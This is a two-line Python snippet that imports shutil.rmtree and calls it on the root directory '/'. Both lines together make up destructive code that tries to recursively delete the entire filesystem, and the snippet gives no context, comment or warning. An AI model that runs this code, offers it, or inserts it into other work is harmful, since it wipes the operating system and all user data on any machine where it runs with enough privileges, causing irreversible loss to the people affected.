from shutil import rmtree
rmtree("/")
